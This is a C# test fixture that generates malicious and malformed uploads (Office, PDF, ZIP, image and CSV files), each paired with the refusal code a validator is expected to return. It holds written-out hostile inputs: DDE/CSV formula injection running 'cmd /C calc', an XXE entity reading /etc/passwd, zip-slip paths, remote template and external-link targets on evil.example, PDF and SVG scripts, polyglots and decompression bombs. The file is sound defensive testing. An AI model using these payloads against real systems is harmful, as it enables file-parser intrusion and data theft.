using System.IO.Compression;
using System.Text;

namespace Lianxin.Functions.Tests.Museum;

/// <summary>A file that was made to hurt, or that came so from a broken program. Made anew by every run: no such file lies in the repository.</summary>
/// <param name="AsAttachment">Code of the refusal; or <c>taken</c>, read to its end and clean; or <c>closed</c>, taken and kept from the public until a reviewer has looked.</param>
/// <param name="AsImport">Code of the refusal of the same bytes as a register to be imported.</param>
internal sealed record Exhibit(string Name, Func<byte[]> Make, string AsAttachment, string AsImport)
{
    private const string Rels = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

    /// <summary>The head line of a register of items, so that what follows is looked at.</summary>
    private const string Head = "number,entry,office,village,title,body,formed_on,published_on,period,elements,channels\n";

    public static IReadOnlyList<Exhibit> All { get; } =
    [
        new("多件.xlsx", () => Zip([.. Book("<row/>"), .. Enumerable.Range(0, 5_000).Select(i => ($"xl/media/{i}.txt", "x"))]), "file-too-large", "import-too-large"),
        new("深套.xlsx", () => Zip(Book(string.Concat(Enumerable.Repeat("<a>", 100_000)) + string.Concat(Enumerable.Repeat("</a>", 100_000)))), "taken", "import-empty"),
        new("外链.xlsx", () => Zip([.. Book("<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!A1</f><v>1</v></c></row>"), ("xl/externalLinks/externalLink1.xml", "<externalLink/>"), ("xl/externalLinks/_rels/externalLink1.xml.rels", $"<Relationships><Relationship Id=\"rId1\" Type=\"{Rels}/externalLinkPath\" Target=\"file:///\\\\evil.example\\a.xlsx\" TargetMode=\"External\"/></Relationships>")]), "taken", "import-columns"),
        new("动态.xlsx", () => Zip(Book("<row r=\"1\"><c r=\"A1\"><f>cmd|'/C calc'!A0</f><v>0</v></c></row>")), "taken", "import-columns"),
        new("坏标记.xlsx", () => Zip(Book("<row><c></row>")), "file-broken", "import-broken"),
        new("实体.xlsx", () => Zip([.. Book("<row/>").Where(p => !p.Item1.EndsWith("sheet1.xml", StringComparison.Ordinal)), ("xl/worksheets/sheet1.xml", "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&a;</t></is></c></row></sheetData></worksheet>")]), "file-broken", "import-broken"),
        new("重名.xlsx", () => Zip([.. Book("<row/>"), ("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>13812345678</t></is></c></row></sheetData></worksheet>")]), "file-ambiguous", "import-broken"),
        new("出格.xlsx", () => Zip([.. Book("<row/>"), ("../../evil.txt", "x"), ("/etc/cron.d/x", "x"), ("..\\..\\x", "x")]), "file-ambiguous", "import-broken"),
        new("隐藏.xlsx", () => Zip(Book("<row r=\"1\" hidden=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>13812345678</t></is></c></row>")), "personal-data", "import-columns"),
        new("含宏.xlsx", () => Zip([.. Book("<row/>"), ("xl/vbaProject.bin", "x")]), "file-macros", "import-macros"),
        new("不是表.xlsx", () => "number,title\n"u8.ToArray(), "attachment-kind", "import-kind"),
        new("空包.xlsx", () => Zip([]), "attachment-kind", "import-kind"),
        new("半包.xlsx", () => Zip(Book("<row/>"))[..200], "file-broken", "import-broken"),
        new("加密.xlsx", () => Ole, "file-old-format", "import-old-format"),
        new("旧表.xls", () => Ole, "file-old-format", "import-old-format"),
        new("宏文.docm", () => Zip(Word("正文")), "file-old-format", "import-kind"),
        new("含宏.docx", () => Zip([.. Word("正文"), ("word/vbaProject.bin", "x")]), "file-macros", "import-kind"),
        new("外模.docx", () => Zip([.. Word("正文"), ("word/_rels/settings.xml.rels", $"<Relationships><Relationship Id=\"rId1\" Type=\"{Rels}/attachedTemplate\" Target=\"http://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>")]), "file-remote", "import-kind"),
        new("截断.pdf", () => Encoding.Latin1.GetBytes(Pdf("<< /Type /Catalog /Pages 2 0 R >>"))[..40], "file-broken", "import-kind"),
        new("加密.pdf", () => Encoding.Latin1.GetBytes(Pdf("<< /Type /Catalog /Pages 2 0 R >>").Replace("/Root 1 0 R", "/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>", StringComparison.Ordinal)), "file-encrypted", "import-kind"),
        new("脚本.pdf", () => Encoding.Latin1.GetBytes(Pdf("<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>")), "closed", "import-kind"),
        new("亿页.pdf", () => Encoding.Latin1.GetBytes(Pdf("<< /Type /Catalog /Pages 2 0 R >>").Replace("/Count 1", "/Count 999999999", StringComparison.Ordinal)), "taken", "import-kind"),
        new("自环.pdf", () => Encoding.Latin1.GetBytes(Pdf("<< /Type /Catalog /Pages 1 0 R >>")), "taken", "import-kind"),
        new("出格.zip", () => Zip([("../../evil.csv", "a,b\n1,2\n"), ("C:\\x.txt", "x")]), "file-ambiguous", "import-kind"),
        new("套包.zip", () => Enumerable.Range(0, 8).Aggregate("x"u8.ToArray(), (inner, _) => ZipBytes([("a.zip", inner)])), "file-too-large", "import-kind"),
        new("带程序.zip", () => ZipBytes([("a.exe", "MZ"u8.ToArray())]), "file-kind", "import-kind"),
        new("大图.png", () => Png(100_000, 100_000), "closed", "invalid-encoding"),
        new("拼接.png", () => [.. Png(1, 1), .. Zip([("a.txt", "x")])], "closed", "invalid-encoding"),
        new("两面.gif", () => "GIF89a/*"u8.ToArray(), "attachment-kind", "import-columns"),
        new("两面.jpg", () => "GIF89a/*\u0001\u0000*/=1;alert(1)"u8.ToArray(), "attachment-kind", "import-columns"),
        new("带码.svg", () => "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"u8.ToArray(), "attachment-kind", "import-columns"),
        new("空字.csv", () => Encoding.UTF8.GetBytes(Head + "N-1\0,01-03,dangzheng,,标题,正文,2025-06-01,2025-06-02,,,portal\n"), "invalid-encoding", "import-refused"),
        new("宽码.csv", () => [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes(Head + "N-1,01-03\n")], "taken", "invalid-encoding"),
        new("混行.csv", () => Encoding.UTF8.GetBytes(Head.TrimEnd() + "\r\n\"N-1\r\n\",01-03\rN-2\n"), "taken", "import-refused"),
        new("长格.csv", () => Encoding.UTF8.GetBytes(Head + "N-1,01-03,dangzheng,," + new string('长', 350_000) + ",正文,2025-06-01,2025-06-02,,,portal\n"), "taken", "import-refused"),
        new("未收.csv", () => Encoding.UTF8.GetBytes(Head + "\"N-1,01-03\n"), "taken", "import-refused"),
        new("算式.csv", () => Encoding.UTF8.GetBytes(Head + "=cmd|' /C calc'!A0,01-03,nowhere,,@SUM(1),+1,2025-06-01,2025-06-02,,-1,portal\n"), "taken", "import-refused"),
        new("乱码.csv", () => [.. Encoding.UTF8.GetBytes(Head), 0xFF, 0xFE, 0xC0], "invalid-encoding", "invalid-encoding"),
    ];

    /// <summary>Beginning of the container of encrypted and of old Office files.</summary>
    private static byte[] Ole => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[600]];

    private static (string, string)[] Book(string rows) =>
    [
        ("xl/workbook.xml", $"<workbook xmlns:r=\"{Rels}\"><sheets><sheet name=\"表\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"),
        ("xl/_rels/workbook.xml.rels", "<Relationships><Relationship Id=\"rId1\" Target=\"worksheets/sheet1.xml\"/></Relationships>"),
        ("xl/worksheets/sheet1.xml", $"<worksheet><sheetData>{rows}</sheetData></worksheet>"),
    ];

    private static (string, string)[] Word(string text) =>
    [
        ("word/document.xml", $"<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"),
    ];

    private static string Pdf(string catalog) =>
        $"%PDF-1.7\n1 0 obj\n{catalog}\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>\nendobj\ntrailer\n<< /Size 4 /Root 1 0 R >>\n%%EOF\n";

    private static byte[] Png(int width, int height)
    {
        byte[] head = [(byte)(width >> 24), (byte)(width >> 16), (byte)(width >> 8), (byte)width, (byte)(height >> 24), (byte)(height >> 16), (byte)(height >> 8), (byte)height, 8, 0, 0, 0, 0];
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.Fastest, leaveOpen: true))
            zlib.Write(new byte[2]);
        return [0x89, .. "PNG\r\n\u001a\n"u8, .. Chunk("IHDR"u8, head), .. Chunk("IDAT"u8, packed.ToArray()), .. Chunk("IEND"u8, [])];
    }

    private static byte[] Chunk(ReadOnlySpan<byte> type, byte[] data)
    {
        byte[] named = [.. type, .. data];
        var length = BitConverter.GetBytes(data.Length);
        var sum = BitConverter.GetBytes(Crc(named));
        Array.Reverse(length);
        Array.Reverse(sum);
        return [.. length, .. named, .. sum];
    }

    /// <summary>The checksum of PNG (ISO 3309).</summary>
    private static uint Crc(byte[] bytes)
    {
        var sum = uint.MaxValue;
        foreach (var one in bytes)
        {
            sum ^= one;
            for (var bit = 0; bit < 8; bit++)
                sum = (sum & 1) == 1 ? (sum >> 1) ^ 0xEDB88320 : sum >> 1;
        }

        return ~sum;
    }

    private static byte[] Zip((string Name, string Text)[] parts) => ZipBytes([.. parts.Select(p => (p.Name, Encoding.UTF8.GetBytes(p.Text)))]);

    private static byte[] ZipBytes((string Name, byte[] Bytes)[] parts)
    {
        using var stream = new MemoryStream();
        using (var zip = new ZipArchive(stream, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, bytes) in parts)
            {
                using var entry = zip.CreateEntry(name, CompressionLevel.Fastest).Open();
                entry.Write(bytes);
            }
        }

        return stream.ToArray();
    }
}
